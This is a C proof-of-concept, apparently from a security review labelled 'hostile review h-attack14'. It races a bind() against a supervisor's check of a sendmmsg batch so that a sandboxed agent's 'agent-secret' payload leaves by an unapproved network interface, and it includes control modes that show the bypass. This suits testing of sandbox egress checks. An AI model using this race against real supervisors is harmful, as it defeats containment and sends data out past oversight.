/* ha14-mmsg: hostile review h-attack14. The device check of d255201 reads
 * the socket's device before a sendmmsg (judge_batch) and after it
 * (sv_call_device_changed), and accepts a change to c->scope_if: "a connect
 * to a scoped address binds the socket to its scope". But c->scope_if is
 * whatever the LAST judged message of the batch set, and a sendmmsg never
 * binds the socket: so a batch that ends with a declared link-local name
 * carrying a scope id (fe80::1%IFNAME) lets a failed bind(fe80::dead%IFNAME)
 * by another thread, between the judgement and the first send, go unnoticed,
 * and the batch's first message (the declared IPv4 address, as
 * ::ffff:a.b.c.d) leaves by IFNAME, where the kernel takes it for on-link
 * (ha12-oif, ha13-bindfail).
 *
 * The window is the supervisor's read of message 0's payload, and the agent
 * sees it: the payload is a MAP_SHARED mapping of a file whose pages were
 * dropped from the page cache (POSIX_FADV_DONTNEED) and whose mapping is
 * MADV_RANDOM (one synchronous disk read per page, no readahead). A thread
 * polls mincore() on page 0: resident means the supervisor has judged and is
 * reading; it then binds. Misses are silent (a bind after the first send
 * finds a port: EINVAL before the scope id is written).
 *
 *   ha14-mmsg MODE DEST:PORT IFNAME FILE   (FILE: created by the agent)
 *     race      batch [::ffff:DEST, fe80::1%IFNAME] with the racing bind
 *     plain     control: the same batch, no bind
 *     reversed  batch [fe80::1%IFNAME (the large payload), ::ffff:DEST]
 *               with the racing bind: both leave by IFNAME, but the last
 *               message has no scope, and the change is seen
 *               (device-binding)
 *     single    sendto(::ffff:DEST) alone with the racing bind (seen)
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <net/if.h>
#include <netinet/in.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#define PAYLOAD 61440

static int sock;
static unsigned ifindex;
static unsigned char *map;
static volatile int bind_rc = 1, bind_err, polls;

static void *racer(void *arg)
{
	struct sockaddr_in6 ll = {.sin6_family = AF_INET6};
	unsigned char vec;
	(void)arg;

	inet_pton(AF_INET6, "fe80::dead", &ll.sin6_addr);
	ll.sin6_scope_id = ifindex;
	for (long i = 0; i < 200000000L; i++) {
		if (mincore(map, 4096, &vec) == 0 && (vec & 1))
			break;
		polls++;
	}
	bind_rc = bind(sock, (struct sockaddr *)&ll, sizeof(ll));
	bind_err = errno;
	return NULL;
}

int main(int argc, char **argv)
{
	struct sockaddr_in6 dst = {.sin6_family = AF_INET6}, ll = {.sin6_family = AF_INET6};
	struct mmsghdr mm[2];
	struct iovec iov[2];
	char host[64], small[64], dev[IFNAMSIZ + 1] = "", *colon;
	socklen_t dl = sizeof(dev) - 1;
	const char *mode;
	pthread_t t;
	int fd, race;
	long rc;

	if (argc != 5) {
		fprintf(stderr, "usage: ha14-mmsg MODE DEST:PORT IFNAME FILE\n");
		return 2;
	}
	mode = argv[1];
	snprintf(host, sizeof(host), "::ffff:%s", argv[2]);
	colon = strrchr(host, ':');
	*colon = '\0';
	dst.sin6_port = htons((unsigned short)atoi(colon + 1));
	if (inet_pton(AF_INET6, host, &dst.sin6_addr) != 1)
		return 2;
	ifindex = if_nametoindex(argv[3]);
	inet_pton(AF_INET6, "fe80::1", &ll.sin6_addr);
	ll.sin6_port = dst.sin6_port;
	ll.sin6_scope_id = ifindex;
	/* The agent's own file (mincore reports the page cache only for a
	 * file the caller owns or may write), written, synced and dropped. */
	fd = open(argv[4], O_RDWR | O_CREAT | O_TRUNC, 0600);
	if (fd < 0) {
		perror("agent: open");
		return 2;
	}
	for (int off = 0; off < PAYLOAD; off += 32)
		if (write(fd, "agent-secret via the mmsg race; ", 32) != 32)
			return 2;
	map = mmap(NULL, PAYLOAD, PROT_READ, MAP_SHARED, fd, 0);
	if (map == MAP_FAILED)
		return 2;
	madvise(map, PAYLOAD, MADV_RANDOM);
	fdatasync(fd);
	posix_fadvise(fd, 0, 0, POSIX_FADV_DONTNEED);
	{
		unsigned char vec;

		mincore(map, 4096, &vec);
		printf("agent: payload page 0 resident before the call: %d\n", vec & 1);
	}
	sock = socket(AF_INET6, SOCK_DGRAM, 0);
	race = strcmp(mode, "plain") != 0;
	snprintf(small, sizeof(small), "second message (%s)", mode);
	memset(mm, 0, sizeof(mm));
	iov[0].iov_base = map;
	iov[0].iov_len = PAYLOAD;
	iov[1].iov_base = small;
	iov[1].iov_len = strlen(small);
	if (strcmp(mode, "reversed") == 0) {
		mm[0].msg_hdr.msg_name = &ll;
		mm[1].msg_hdr.msg_name = &dst;
	} else {
		mm[0].msg_hdr.msg_name = &dst;
		mm[1].msg_hdr.msg_name = &ll;
	}
	{
		mm[0].msg_hdr.msg_iov = &iov[0];
		mm[1].msg_hdr.msg_iov = &iov[1];
	}
	for (int i = 0; i < 2; i++) {
		mm[i].msg_hdr.msg_namelen = sizeof(struct sockaddr_in6);
		mm[i].msg_hdr.msg_iovlen = 1;
	}
	if (race && pthread_create(&t, NULL, racer, NULL) != 0)
		return 2;
	usleep(1000);
	if (strcmp(mode, "single") == 0)
		rc = sendto(sock, map, PAYLOAD, 0, (struct sockaddr *)&dst, sizeof(dst));
	else
		/* The system call itself: musl's sendmmsg() is a loop of
		 * sendmsg() on 64-bit. */
		rc = syscall(SYS_sendmmsg, sock, mm, 2, 0);
	printf("agent: %s = %ld (%s)\n", strcmp(mode, "single") == 0 ? "sendto" : "sendmmsg", rc,
	       rc < 0 ? strerror(errno) : "ok");
	if (race) {
		pthread_join(t, NULL);
		printf("agent: racing bind(fe80::dead%%%s) = %d (%s) after %d polls\n", argv[3],
		       bind_rc, bind_rc ? strerror(bind_err) : "ok", polls);
	}
	getsockopt(sock, SOL_SOCKET, SO_BINDTODEVICE, dev, &dl);
	printf("agent: socket now bound to device '%s'\n", dev);
	usleep(300 * 1000);
	return 0;
}
